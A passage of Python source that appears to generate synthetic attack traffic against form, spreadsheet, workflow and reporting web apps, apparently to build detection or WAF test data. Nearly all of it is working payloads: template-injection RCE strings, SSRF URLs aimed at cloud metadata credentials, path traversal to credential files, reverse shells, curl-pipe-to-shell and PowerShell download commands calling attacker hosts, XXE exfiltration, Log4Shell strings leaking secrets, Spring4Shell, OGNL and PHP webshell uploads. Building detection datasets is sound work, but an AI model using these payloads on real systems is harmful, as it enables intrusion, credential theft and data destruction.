    "{php}echo `id`;{/php}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "#{7*7}${{7*7}}<%= 7*7 %>{{7*'7'}}",
    "${{<%[%'\"}}%\\.",
    "{{ this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') }}",
    "{{= global.process.mainModule.require('child_process').execSync('id') }}",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
    "{{ \"\".__class__.__base__.__subclasses__()[132].__init__.__globals__['popen']('ls /').read() }}",
    "{% import os %}{{ os.system('id') }}",
    "${pageContext.request.getSession().setAttribute(\"a\",Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\"))}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}",
]


def atk_ssti(g):
    for i, p in enumerate(SSTI):
        slug = g.form_slug()
        kind = i % 5
        if kind == 0:
            g.add("ssti-public-form", "ssti", "POST", f"/f/{slug}/submit",
                  g.browser(FORMS, ctype="application/x-www-form-urlencoded", cookie=False),
                  g.form([("field_1", p), ("field_3", "a@example.com"), ("message", "thanks")]))
        elif kind == 1:
            g.add("ssti-public-json", "ssti", "POST", f"/api/public/forms/{slug}/responses",
                  g.xhr(FORMS, ctype="application/json", cookie=False),
                  g.js({"answers": [{"field": "fld_name", "value": p}, {"field": "fld_email", "value": "b@example.net"}]}))
        elif kind == 2:
            g.add("ssti-prefill", "ssti", "GET", f"/f/{slug}?" + qsv([("prefill_name", p)]), g.browser(FORMS, cookie=False))
        elif kind == 3:
            # unauthenticated inbound webhook whose fields flow into an email template
            g.add("ssti-webhook-in", "ssti", "POST", f"/webhook/{g.hexs(8)}-{g.hexs(4)}-{g.hexs(4)}-{g.hexs(4)}-{g.hexs(12)}",
                  g.api(FLOW, ctype="application/json", auth=False, ua=g.pick(API_CLIENTS)),
                  g.js({"first_name": p, "email": "c@example.org", "plan": "pro"}))
        else:
            g.add("ssti-preview-sample", "ssti", "GET", f"/p/{g.alnum(10)}/unsubscribe?" + qform([("name", p), ("email", "d@example.com")]),
                  g.browser(MAIL, cookie=False))


SSRF_URLS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.170.2/v2/credentials/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://127.0.0.1:6379/",
    "http://localhost:2375/containers/json",
    "http://2130706433/admin",
    "http://0x7f000001:8080/actuator/env",
    "http://0177.0.0.1/server-status",
    "http://[::ffff:127.0.0.1]:9200/_cat/indices",
    "http://[::1]:5678/rest/credentials",
    "http://127.1/latest",
    "http://example.com@169.254.169.254/latest/meta-data/",
    "http://169.254.169.254%2523@example.com/latest/meta-data/",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%3C%3Fphp%20system%28%24_GET%5B%27c%27%5D%29%3B%20%3F%3E%0A%0A%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "file:///etc/passwd",
    "http://10.0.0.12:8500/v1/agent/self",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.17.0.1:10250/pods",
    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://0.0.0.0:8080/manage/env",
    "http://instance-data/latest/meta-data/",
    "http://metadata/computeMetadata/v1/instance/attributes/?recursive=true",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/",
    "http://169.254.169.254/latest/api/token",
    "ldap://127.0.0.1:389/dc=example,dc=com",
    "http://localhost:5678/rest/owner",
]


def atk_ssrf(g):
    for i, url in enumerate(SSRF_URLS):
        kind = i % 5
        if kind == 0:
            g.add("ssrf-form-webhook", "ssrf", "POST", f"/api/v1/forms/frm_{g.alnum(10)}/webhooks",
                  g.xhr(FORMS, ctype="application/json"),
                  g.js({"name": "Send to CRM", "url": url, "method": "GET", "events": ["submission.created"]}))
        elif kind == 1:
            g.add("ssrf-http-node", "ssrf", "POST", "/rest/workflows/run",
                  g.xhr(FLOW, ctype="application/json"),
                  g.js({"workflowData": {"nodes": [{"name": "HTTP Request", "type": "n8n-nodes-base.httpRequest",
                                                    "parameters": {"url": url, "method": "GET"}}]}, "runData": {}}))
        elif kind == 2:
            g.add("ssrf-importdata", "ssrf", "PUT", f"/v4/spreadsheets/{g.sheet_id()}/values/Sheet1%21A1?valueInputOption=USER_ENTERED",
                  g.api(SHEETS, ctype="application/json"),
                  g.js({"values": [[g.pick(["=IMPORTDATA(\"%s\")", "=IMPORTXML(\"%s\",\"//*\")", "=IMAGE(\"%s\")", "=IMPORTHTML(\"%s\",\"table\",1)"]) % url]]}))
        elif kind == 3:
            g.add("ssrf-connector-test", "ssrf", "GET", "/api/connectors/test?" + qsv([("type", "rest"), ("base_url", url)]),
                  g.xhr(TOOLS))
        else:
            g.add("ssrf-url-import", "ssrf", "POST", "/api/import/url",
                  g.browser(SHEETS, accept=ACCEPT_JSON, ctype="application/x-www-form-urlencoded"),
                  g.form([("url", url), ("format", "csv")]))
    # file upload "from link" in a public form
    for url in ["http://169.254.169.254/latest/meta-data/iam/security-credentials/app-role",
                "http://127.0.0.1:5678/rest/owner"]:
        g.add("ssrf-public-upload-url", "ssrf", "POST", f"/api/public/forms/{g.form_slug()}/upload-from-url",
              g.xhr(FORMS, ctype="application/json", cookie=False), g.js({"fileUrl": url}))


LFI = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fshadow",
    "....//....//....//etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "/etc/passwd",
    "../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
    "../../../../../home/node/.n8n/config",
    "../../../app/.env",
    "..%5c..%5c..%5cboot.ini",
    "../../../../etc/passwd%00.pdf",
    "/proc/self/cmdline",
    "..;/..;/..;/WEB-INF/web.xml",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "../../../../root/.aws/credentials",
    "../../../../../../etc/passwd%2500",
    "/..%252f..%252f..%252fetc/passwd",
    "file:///etc/passwd",
    "..///////..////..//////etc/passwd",
    "%252e%252e%255c%252e%252e%255cwindows%255cwin.ini",
    "....\\....\\....\\etc\\passwd",
    "../../../../usr/local/etc/php/php.ini",
    "../../../../proc/self/fd/0",
]


def atk_lfi(g):
    for i, p in enumerate(LFI):
        kind = i % 6
        raw_encoded = "%" in p
        enc = p if raw_encoded else qv(p)
        if kind == 0:
            uri = f"/api/v1/files/download?id=att_{g.alnum(10)}&name={enc}"
            host = FORMS
        elif kind == 1:
            uri = f"/attachments/att_{g.alnum(10)}/{p if raw_encoded else quote(p, safe='/')}"
            host = FORMS
        elif kind == 2:
            uri = f"/api/templates/preview?template={enc}&locale=en"
            host = MAIL
        elif kind == 3:
            uri = f"/api/reports/rpt_{g.alnum(8)}/download?format=pdf&file={enc}"
            host = REPORTS
        elif kind == 4:
            uri = f"/d/{g.sheet_id()}/export?format=csv&path={enc}"
            host = SHEETS
        else:
            uri = f"/designer/static?asset={enc}"
            host = MAIL
        g.add("lfi-" + ["attachment", "attachment-path", "template-name", "report-file", "export-path", "asset"][kind],
              "lfi", "GET", uri, g.browser(host, accept="*/*"))
    for p in ["../../../../etc/passwd", "..\\..\\..\\inetpub\\wwwroot\\web.config"]:
        g.add("lfi-template-json", "lfi", "POST", "/api/messages/render",
              g.xhr(MAIL, ctype="application/json"), g.js({"template": p, "data": {"first_name": "Anna"}}))
    for p in ["../../../../etc/cron.d/evil", "../../../app/public/shell.jsp"]:
        ctype, body = g.multipart([("attachment", p, "application/octet-stream", "test")])
        g.add("lfi-upload-filename", "lfi", "POST", f"/f/{g.form_slug()}/submit", g.browser(FORMS, ctype=ctype, cookie=False), body)


def atk_rfi(g):
    for p in ["http://attacker.example.com/shell.txt?", "https://evil.example.net/c99.txt%00",
              "ftp://198.51.100.23/pub/r57.php", "http://203.0.113.66/x.txt??",
              "//x.example.org/webshell.php?", "http://attacker.example.com/inc.php%3f"]:
        param = g.pick(["page", "template", "include", "layout", "theme"])
        g.add("rfi", "rfi", "GET", f"/index.php?{param}=" + (p if "%" in p else qv(p).replace("%3F", "?")),
              g.browser(g.pick([FORMS, MAIL, REPORTS]), cookie=False))
    g.add("rfi", "rfi", "POST", "/designer/render.php",
          g.browser(MAIL, ctype="application/x-www-form-urlencoded", cookie=False),
          g.form([("tpl", "http://evil.example.net/shell.txt?"), ("lang", "en")]))
    g.add("rfi", "rfi", "GET", "/report.php?" + qform([("header_file", "https://attacker.example.com/r.txt?")]),
          g.browser(REPORTS, cookie=False))


CMDI = [
    "report.csv; curl http://attacker.example.com/x.sh | sh",
    "export$(id).pdf",
    "q2`wget -qO- http://198.51.100.23/s|bash`.xlsx",
    "out.pdf && cat /etc/passwd",
    "a.csv | nc 203.0.113.66 4444 -e /bin/sh",
    "x;bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
    "report.pdf%0aid",
    "data.csv;${IFS}cat${IFS}/etc/shadow",
    "file.xlsx||ping -c 10 198.51.100.23||",
    "summary.pdf & powershell -NoP -W Hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example.net/a.ps1')\"",
    "name.csv; rm -rf /tmp/*; echo pwned",
    "$(curl -s http://attacker.example.com/`whoami`)",
    ";python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.66\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
    "x.pdf\ncurl http://x.example.org/$(cat /etc/hostname)",
    "| cmd.exe /c type C:\\Windows\\win.ini",
    "`/usr/bin/id`",
    "test;/bin/busybox wget http://198.51.100.23/mips -O /tmp/m;chmod +x /tmp/m;/tmp/m",
    "a;{echo,aWQ=}|{base64,-d}|bash",
    "1;sleep${IFS}10;",
    "report.pdf --use-compress-program='sh -c id'",
]


def atk_rce(g):
    for i, p in enumerate(CMDI):
        kind = i % 5
        if kind == 0:
            g.add("rce-export-filename", "rce", "POST", f"/api/v1/forms/frm_{g.alnum(10)}/responses/export",
                  g.xhr(FORMS, ctype="application/json"), g.js({"format": "csv", "filename": p}))
        elif kind == 1:
            enc = p.replace("%0a", "\n") if "%0a" in p else p
            g.add("rce-report-download", "rce", "GET",
                  f"/api/reports/rpt_{g.alnum(8)}/download?" + qsv([("format", "pdf"), ("filename", enc)]),
                  g.xhr(REPORTS))
        elif kind == 2:
            g.add("rce-public-form", "rce", "POST", f"/f/{g.form_slug()}/submit",
                  g.browser(FORMS, ctype="application/x-www-form-urlencoded", cookie=False),
                  g.form([("field_1", "Liam"), (g.pick(["phone", "company", "field_4"]), p), ("field_3", "l@example.com")]))
        elif kind == 3:
            g.add("rce-convert", "rce", "POST", "/api/documents/convert",
                  g.xhr(REPORTS, ctype="application/json"),
                  g.js({"source": "rpt_" + g.alnum(8), "to": "pdf", "outputName": p}))
        else:
            g.add("rce-ping-host", "rce", "GET", "/api/connectors/ping?" + qsv([("host", "db.example.com" + (p if p[0] in ";|&`$" else ";" + p))]),
                  g.xhr(TOOLS))
    # shell metacharacters in an upload filename
    for fn in ["invoice.pdf;curl attacker.example.com|sh", "$(reboot).csv"]:
        ctype, body = g.multipart([("file", fn, "text/csv", "a,b\n1,2\n")])
        g.add("rce-upload-filename", "rce", "POST", "/api/import/" + g.sheet_id(), g.browser(SHEETS, accept=ACCEPT_JSON, ctype=ctype), body)


NOSQL = [
    {"email": {"$gt": ""}, "password": {"$gt": ""}},
    {"email": "admin@example.com", "password": {"$ne": None}},
    {"email": {"$regex": "^adm"}, "password": {"$ne": "x"}},
    {"token": {"$ne": "invalid"}, "newPassword": "Owned123!"},
    {"filter": {"$where": "sleep(5000) || true"}},
    {"filter": {"owner": {"$ne": None}, "$or": [{"workspace": {"$exists": True}}]}},
    {"filter": {"$where": "this.password.match(/^a/) && sleep(3000)"}},
    {"shareId": {"$in": ["a", "b"]}, "$comment": "x"},
    {"filter": {"$expr": {"$function": {"body": "function(){return sleep(5000)}", "args": [], "lang": "js"}}}},
    {"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}, {"$project": {"u.passwordHash": 1}}]},
    {"username": {"$nin": [""]}, "password": {"$regex": ".*"}},
    {"email": "admin@example.com", "password": {"$in": ["123456", "password", "admin", "letmein"]}},
    {"filter": {"createdBy": {"$regex": "^.*$"}, "$where": "1==1"}},
]
NOSQL_QS = [
    [("email", "admin@example.com"), ("password[$ne]", "x")],
    [("email[$regex]", ".*"), ("password[$gt]", "")],
    [("token[$ne]", "1")],
    [("filter[owner][$ne]", "null"), ("limit", "1000")],
    [("where[$where]", "function(){return true}")],
    [("id[$gt]", "")],
    [("user[$where]", "this.role=='admin'")],
]


def atk_nosqli(g):
    for i, obj in enumerate(NOSQL):
        if "email" in obj or "username" in obj:
            uri, host = "/api/auth/login", g.pick([FORMS, TABLES, FLOW])
        elif "token" in obj:
            uri, host = "/api/auth/reset-password", FORMS
        elif "shareId" in obj:
            uri, host = "/api/public/shares/resolve", TABLES
        else:
            uri, host = f"/api/public/forms/{g.form_slug()}/responses/search", FORMS
        g.add("nosqli-json", "nosqli", "POST", uri, g.xhr(host, ctype="application/json", cookie=False), g.js(obj))
    for pairs in NOSQL_QS:
        if g.rng.random() < 0.5:
            g.add("nosqli-qs", "nosqli", "GET", "/api/public/records?" + qform(pairs), g.browser(TABLES, accept=ACCEPT_JSON, cookie=False))
        else:
            g.add("nosqli-form", "nosqli", "POST", "/api/auth/login",
                  g.browser(FORMS, accept=ACCEPT_JSON, ctype="application/x-www-form-urlencoded", cookie=False), g.form(pairs))


PROTO = [
    {"__proto__": {"isAdmin": True}},
    {"answers": [], "__proto__": {"role": "owner"}},
    {"constructor": {"prototype": {"isAdmin": True}}},
    {"settings": {"__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');x"}}},
    {"theme": {"__proto__": {"shell": "/proc/self/exe", "argv0": "console.log(require('child_process').execSync('id').toString())//", "NODE_OPTIONS": "--require /proc/self/cmdline"}}},
    {"fields": {"__proto__": {"sourceURL": "\u2028\u2029\nglobal.process.mainModule.require('child_process').execSync('touch /tmp/pp')"}}},
    {"meta": {"__proto__": {"polluted": "yes", "allowedOrigins": ["*"]}}},
]
PROTO_QS = [
    [("__proto__[isAdmin]", "true")],
    [("constructor[prototype][role]", "admin")],
    [("__proto__.admin", "1")],
    [("a[__proto__][toString]", "polluted")],
]


def atk_proto(g):
    for obj in PROTO:
        slug = g.form_slug()
        g.add("proto-pollution-json", "generic", "POST", g.pick([f"/api/public/forms/{slug}/responses", "/api/v1/me/preferences", f"/api/v1/forms/frm_{g.alnum(10)}"]),
              g.xhr(FORMS, ctype="application/json", cookie=g.rng.random() < 0.5), g.js(obj))
    for pairs in PROTO_QS:
        g.add("proto-pollution-qs", "generic", "GET", f"/f/{g.form_slug()}?" + qform(pairs), g.browser(FORMS, cookie=False))


XXE = [
    # SpreadsheetML 2003 (Excel XML) import
    ('sheet.xml', 'application/xml',
     '<?xml version="1.0"?>\n<!DOCTYPE Workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Sheet1"><Table><Row><Cell><Data ss:Type="String">&xxe;</Data></Cell></Row></Table></Worksheet></Workbook>'),
    # flat ODS
    ('budget.fods', 'application/vnd.oasis.opendocument.spreadsheet',
     '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE office:document [<!ENTITY x SYSTEM "file:///proc/self/environ">]>\n<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table><table:table-row><table:table-cell><text:p>&x;</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document>'),
    # xlsx part: sharedStrings.xml with OOB parameter entity
    ('xl/sharedStrings.xml', 'application/xml',
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE sst [<!ENTITY % remote SYSTEM "http://attacker.example.com/evil.dtd"> %remote; %send;]>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>Name</t></si></sst>'),
    ('[Content_Types].xml', 'application/xml',
     '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE Types [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="&xxe;"/></Types>'),
    ('form-export.xml', 'text/xml',
     '<?xml version="1.0"?>\n<!DOCTYPE form [\n  <!ELEMENT form ANY>\n  <!ENTITY % dtd SYSTEM "http://evil.example.net/oob.dtd">\n  %dtd;\n]>\n<form><title>&exfil;</title></form>'),
    ('contacts.xml', 'application/xml',
     '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]><contacts><c>&lol5;</c></contacts>'),
    ('data.xml', 'application/xml',
     '<?xml version="1.0"?><records xmlns:xi="http://www.w3.org/2001/XInclude"><record><name><xi:include parse="text" href="file:///etc/hosts"/></name></record></records>'),
    ('win.xml', 'application/xml',
     '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY w SYSTEM "file:///c:/windows/win.ini">]><r><v>&w;</v></r>'),
    ('logo.svg', 'image/svg+xml',
     '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&xxe;</text></svg>'),
    ('feed.xml', 'application/xml',
     '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "expect://id">]><foo>&xxe;</foo>'),
    ('rows.xml', 'application/xml',
     '<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://198.51.100.23/x.dtd"><data><row>1</row></data>'),
    ('orders.xml', 'application/xml',
     '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY % file SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd"><!ENTITY % dtd SYSTEM "http://attacker.example.com/combine.dtd">%dtd;]><o/>'),
    ('xl/worksheets/sheet1.xml', 'application/xml',
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">]>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'),
    ('import.xml', 'application/xml',
     '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a SYSTEM "file:///etc/passwd"><!ENTITY % b "<!ENTITY &#x25; c SYSTEM \'http://attacker.example.com/?%a;\'>">%b;%c;]><x/>'),
    ('xl/workbook.xml', 'application/xml',
     '<?xml version="1.0"?><!DOCTYPE workbook [<!ENTITY j SYSTEM "jar:http://evil.example.net/a.zip!/x.txt">]><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="&j;" sheetId="1"/></sheets></workbook>'),
    ('table.xml', 'text/xml',
     '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY n SYSTEM "netdoc:///etc/passwd">]><table><row><cell>&n;</cell></row></table>'),
]


def atk_xxe(g):
    for i, (fn, ct, xml) in enumerate(XXE):
        kind = i % 3
        if kind == 0:
            ctype, body = g.multipart([("sheet", "Import"), ("file", fn, ct, xml)])
            g.add("xxe-import-upload", "xxe", "POST", f"/api/import/{g.sheet_id()}?mode=new_sheet",
                  g.browser(SHEETS, accept=ACCEPT_JSON, ctype=ctype), body)
        elif kind == 1:
            g.add("xxe-import-raw", "xxe", "POST", "/api/v1/forms/import?format=xml",
                  g.api(FORMS, ctype=ct if ct.endswith("xml") else "application/xml"), xml)
        else:
            ctype, body = g.multipart([("attachment", fn, ct, xml)])
            g.add("xxe-public-upload", "xxe", "POST", f"/f/{g.form_slug()}/submit", g.browser(FORMS, ctype=ctype, cookie=False), body)
    # SOAP-style connector endpoint
    g.add("xxe-soap", "xxe", "POST", "/connectors/soap/endpoint",
          g.api(FLOW, ctype="text/xml; charset=utf-8", auth=False, extra=[["SOAPAction", "\"urn:submit\""]]),
          '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///home/node/.n8n/config">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><submit><name>&x;</name></submit></soap:Body></soap:Envelope>')


JNDI = [
    "${jndi:ldap://attacker.example.com:1389/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example.net/Exploit}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.23:1099/obj}",
    "${jndi:dns://x.example.org/${env:AWS_SECRET_ACCESS_KEY}}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.66/o}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example.com/a}",
    "${jndi:ldaps://attacker.example.com/${sys:java.version}}",
    "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://evil.example.net/z}",
    "${jndi:rmi://x.example.org:1099/${hostName}}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.66/x}",
]


def atk_java(g):
    hdrs = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Cookie", "Authorization", "X-Request-Id"]
    for i, p in enumerate(JNDI):
        host = g.pick([FORMS, SHEETS, TABLES, FLOW, TOOLS])
        name = hdrs[i % len(hdrs)]
        h = [["Host", host], ["Accept", "*/*"]]
        if name == "User-Agent":
            h.append(["User-Agent", p])
        else:
            h.append(["User-Agent", g.pick(BROWSERS)])
            h.append([name, ("session=" + p) if name == "Cookie" else ("Bearer " + p) if name == "Authorization" else p])
        g.add("log4shell-header", "java", "GET", g.pick(["/", "/f/contact-us", "/api/v1/forms", "/login"]), h)
    for p in JNDI[:3]:
        g.add("log4shell-form", "java", "POST", f"/f/{g.form_slug()}/submit",
              g.browser(FORMS, ctype="application/x-www-form-urlencoded", cookie=False),
              g.form([("field_1", p), ("field_3", "x@example.com")]))
    # Spring4Shell via a form-binding endpoint
    g.add("spring4shell", "java", "POST", "/api/public/forms/contact-us/responses",
          g.browser(FORMS, ctype="application/x-www-form-urlencoded", cookie=False),
          g.form([("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
                  ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
                  ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
                  ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
                  ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")]))
    # Struts OGNL in Content-Type
    g.add("ognl-content-type", "java", "POST", "/upload.action",
          [["Host", REPORTS], ["User-Agent", g.pick(BROWSERS)], ["Accept", "*/*"],
           ["Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start())}"]],
          "x")
    # Java deserialization gadget in cookie and body
    g.add("java-deser", "java", "GET", "/app/forms",
          g.browser(FORMS, cookie="rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7"))
    g.add("java-deser", "java", "POST", "/connectors/invoke",
          g.api(TOOLS, ctype="application/json", auth=False),
          g.js({"connector": "legacy-erp", "state": "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVyVmFsdWVzdAAPTGphdmEvdXRpbC9NYXA7TAAEdHlwZXQAEUxqYXZhL2xhbmcvQ2xhc3M7eHBzfQAAAAEADWphdmEudXRpbC5NYXB4cgAXamF2YS5sYW5nLnJlZmxlY3QuUHJveHk="}))
    # EL injection in a JSF-style field
    g.add("java-el", "java", "GET", "/reports/view.jsf?" + qsv([("title", "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}")]),
          g.browser(REPORTS, cookie=False))


def atk_php(g):
    g.add("php-filter", "php", "GET", "/index.php?" + qsv([("page", "php://filter/convert.base64-encode/resource=config.php")]), g.browser(MAIL, cookie=False))
    g.add("php-data-wrapper", "php", "GET", "/index.php?template=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=&cmd=id", g.browser(REPORTS, cookie=False))
    g.add("php-input", "php", "POST", "/index.php?page=php://input",
          g.browser(FORMS, ctype="application/x-www-form-urlencoded", cookie=False), "<?php system('id'); ?>")
    g.add("php-expect", "php", "GET", "/designer/load.php?" + qsv([("file", "expect://id")]), g.browser(MAIL, cookie=False))
    g.add("php-phar", "php", "GET", "/api/v1/files/download?" + qsv([("name", "phar:///var/www/uploads/att_7Hk2/avatar.jpg/test.txt")]), g.browser(FORMS, accept="*/*"))
    ctype, body = g.multipart([("name", "Anna"), ("attachment", "photo.php.jpg", "image/jpeg", "GIF89a<?php echo shell_exec($_GET['c']); ?>")])
    g.add("php-webshell-upload", "php", "POST", f"/f/{g.form_slug()}/submit", g.browser(FORMS, ctype=ctype, cookie=False), body)
    ctype, body = g.multipart([("attachment", "shell.phtml", "application/octet-stream", "<?=`$_POST[x]`?>")])
    g.add("php-webshell-upload", "php", "POST", f"/f/{g.form_slug()}/submit", g.browser(FORMS, ctype=ctype, cookie=False), body)
    g.add("php-object-injection", "php", "GET", "/app/forms",
          g.browser(FORMS, cookie="prefs=" + qv('O:8:"Template":1:{s:4:"file";s:26:"/var/www/html/backdoor.php";}')))
    g.add("php-object-injection", "php", "POST", "/api/v1/forms/import?format=php",
          g.xhr(FORMS, ctype="application/x-www-form-urlencoded"),
          g.form([("data", 'a:1:{i:0;O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":1:{s:10:"\x00*\x00handler";s:6:"system";}}}')]))
    g.add("php-eval-param", "php", "POST", "/f/contact-us/submit",
          g.browser(FORMS, ctype="application/x-www-form-urlencoded", cookie=False),
          g.form([("field_1", "<?php eval(base64_decode($_POST['z'])); ?>"), ("z", "c3lzdGVtKCdpZCcpOw==")]))


def atk_ldapi(g):
    for p in ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "anna*)(|(userPassword=*)",
              "x)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=example,dc=com)", "*))%00",
              "*)(&(objectClass=user)(description=*pass*)", "))(|(cn=*"]:
        if g.rng.random() < 0.6:
